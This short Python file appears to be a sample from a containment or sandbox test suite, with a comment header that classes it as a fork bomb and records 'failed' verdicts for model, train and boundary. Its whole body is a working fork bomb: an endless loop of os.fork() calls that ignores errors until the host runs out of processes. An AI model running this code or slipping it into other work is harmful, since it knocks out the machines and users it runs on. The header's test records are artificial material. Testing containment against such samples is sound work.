# class:     fork bombs
# attack:    a fork bomb
# contained: a limited number of processes, all ended from outside
# added to:  stub
# ends:      from outside
# suite:     model: failed, train: failed, boundary: failed
# verdict:   model: failed, train: failed, boundary: failed

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
